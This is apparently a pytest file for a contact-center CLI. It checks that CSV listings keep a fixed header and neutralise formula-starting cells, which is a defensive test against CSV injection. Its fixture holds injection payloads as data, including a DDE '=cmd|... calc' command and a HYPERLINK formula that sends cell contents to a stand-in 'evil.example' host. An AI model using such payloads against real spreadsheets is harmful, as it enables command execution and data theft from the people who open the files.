"""CSV listings of the ``ccdomain`` command: a header that does not depend on the rows, and
cells a spreadsheet shows as text, never runs (OWASP CSV injection)."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ccdomain import listings
from ccdomain.cli import format_rows, main
from ccdomain.memory import MemoryStore
from ccdomain.replay import replay


def call(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def write_events(path: Path, events: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(e) + "\n" for e in events), encoding="utf-8")
    return path


_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_ROWS = {
    "tickets": listings.ticket_rows,
    "contacts": listings.contact_rows,
    "typifications": listings.typification_rows,
}

# A contact center's data is typed by customers: names, messages, ids on web chat.
HOSTILE = [
    {"type": "campaign", "id": "ventas", "region": "PE", "typifications": [["Contactado"]]},
    {
        "type": "agent",
        "id": "-a1",
        "name": "=cmd|' /C calc'!A0",
        "queues": ["+cola"],
        "capacity": {"digital": 1},
    },
    {"type": "campaign", "id": "cob", "region": "PE", "kind": "collections"},
    {
        "type": "line",
        "id": "web",
        "channel": "webchat",
        "address": "chat.example.com",
        "campaign": "ventas",
    },
    {
        "type": "contact",
        "campaign": "ventas",
        "first_names": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
        "last_names": "-2+3",
        "tags": ["@SUM(1+1)"],
        "document": {"type": "DNI", "number": "12345678"},
        "channels": [{"kind": "phone", "value": "987 654 321"}],
    },
    {
        "type": "interaction",
        "id": "w1",
        "at": "2026-11-20T09:00:00-05:00",
        "channel": "webchat",
        "direction": "inbound",
        "line": "web",
        "customer": "+cmd|' /C calc'!A0",
        "text": "=1+1",
    },
    {
        "type": "typify",
        "ticket": 1,
        "agent": "ana",
        "at": "2026-11-20T09:10:00-05:00",
        "path": ["Contactado"],
        "comment": "@cmd",
    },
    {
        "type": "contact",
        "campaign": "cob",
        "first_names": "Ana",
        "document": {"type": "DNI", "number": "41223344"},
    },
    {
        "type": "product",
        "id": "-P1",
        "campaign": "cob",
        "contact": "41223344",
        "kind": "loan",
        "currency": "PEN",
        "debt": "100.00",
        "due": "2026-10-01",
    },
    {
        "type": "promise",
        "id": "=PR",
        "product": "-P1",
        "agent": "ana",
        "made_on": "2026-11-01",
        "installments": [{"amount": "40.00", "date": "2026-11-05"}],
    },
]


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    path = tmp_path / "cc.sqlite"
    code, _, err = call(
        "replay", str(write_events(tmp_path / "e.jsonl", HOSTILE)), "--db", str(path)
    )
    assert code == 0, err
    return path


def _csv(db: Path, name: str, *more: str) -> list[list[str]]:
    extra = ["--as-of", "2026-11-20"] if name == "promises" else []
    code, out, err = call(name, "--db", str(db), "--format", "csv", *extra, *more)
    assert code == 0, err
    return list(csv.reader(io.StringIO(out)))


@pytest.mark.parametrize("name", sorted(listings.FIELDS))
def test_L2_csv_header_is_the_listing_fields_with_or_without_rows(
    hostile_db: Path, name: str
) -> None:
    # An empty listing printed the table's 10 columns for tickets and lost typifications'
    # `contact`: a header taken from the rows.
    empty_campaign = {"type": "campaign", "id": "vacia", "region": "PE"}
    more = write_events(hostile_db.parent / "vacia.jsonl", [empty_campaign])
    assert call("replay", str(more), "--db", str(hostile_db))[0] == 0
    full = _csv(hostile_db, name)
    empty = _csv(hostile_db, name, "--campaign", "vacia")
    assert len(full) > 1
    assert full[0] == empty[0] == list(listings.FIELDS[name])
    assert empty[1:] == []


@pytest.mark.parametrize("name", sorted(listings.FIELDS))
def test_L2_csv_cells_starting_a_formula_are_neutralised(hostile_db: Path, name: str) -> None:
    for row in _csv(hostile_db, name)[1:]:
        for cell in row:
            assert not cell.startswith(_TRIGGERS) or _PLAIN_NUMBER.fullmatch(cell), cell


def test_csv_neutralises_by_a_leading_quote_and_json_is_unchanged(hostile_db: Path) -> None:
    (contact,) = [r for r in _csv(hostile_db, "contacts")[1:] if r[1] == "12345678"]
    fields = dict(zip(listings.FIELDS["contacts"], contact, strict=True))
    assert fields["first_names"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    assert fields["last_names"] == "'-2+3"
    assert fields["tags"] == "'@SUM(1+1)"
    assert fields["phones"] == "+51987654321"  # a plain number: left as it is
    (ticket,) = [
        dict(zip(listings.FIELDS["tickets"], r, strict=True))
        for r in _csv(hostile_db, "tickets")[1:]
    ]
    assert ticket["customer"] == "'+cmd|' /C calc'!A0"
    assert ticket["last_action"] == "'=1+1"
    (typified,) = _csv(hostile_db, "typifications")[1:]
    assert dict(zip(listings.FIELDS["typifications"], typified, strict=True))["comment"] == "'@cmd"
    (promise,) = _csv(hostile_db, "promises")[1:]
    assert promise[:2] == ["'=PR", "'-P1"]
    code, out, _ = call("contacts", "--db", str(hostile_db), "--format", "json")
    assert code == 0
    names = {row["code"]: row["last_names"] for row in json.loads(out)}
    assert names["12345678"] == "-2+3"
    code, out, _ = call("contacts", "--db", str(hostile_db))
    assert code == 0 and "-2+3" in out and "'-2+3" not in out


def test_L2_csv_leaves_negative_amounts_and_numbers_as_numbers() -> None:
    rows = [{"id": "A", "paid": "-12.50", "ticket": -3, "customer": "+51987654321", "x": "-1e5"}]
    (header, row) = csv.reader(io.StringIO(format_rows(rows, "csv", ["id"], fields=list(rows[0]))))
    assert header == ["id", "paid", "ticket", "customer", "x"]
    assert row == ["A", "-12.50", "-3", "+51987654321", "'-1e5"]


_cells = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.text(),
    st.sampled_from(["=1+1", "+1", "-1", "@a", "\tx", "\rx", " =x", "-0.50", "+51987654321"]),
    st.lists(st.text(max_size=5), max_size=3),
)


@given(st.lists(st.fixed_dictionaries({"a": _cells, "b": _cells}), max_size=4))
def test_L2_csv_no_cell_can_start_a_formula(rows: list[dict[str, Any]]) -> None:
    # The class of the defect: whatever a row holds, no CSV cell reaches a spreadsheet
    # starting with a formula character, except a plain number; the header never varies.
    out = format_rows(rows, "csv", ["a"], fields=["a", "b"])
    parsed = list(csv.reader(io.StringIO(out)))
    assert parsed[0] == ["a", "b"]
    assert len(parsed) == len(rows) + 1
    for row in parsed[1:]:
        for cell in row:
            assert not cell.startswith(_TRIGGERS) or _PLAIN_NUMBER.fullmatch(cell)


def test_every_listing_row_has_exactly_the_listing_fields() -> None:
    store = MemoryStore()
    summary = replay(store, [json.dumps(e) for e in HOSTILE])
    assert summary.bad_lines == ()
    for name, rows_of in _ROWS.items():
        rows = rows_of(store)
        assert rows and all(tuple(row) == listings.FIELDS[name] for row in rows), name
    promises = listings.promise_rows(store, as_of=dt.date(2026, 11, 20))
    assert promises and all(tuple(row) == listings.FIELDS["promises"] for row in promises)
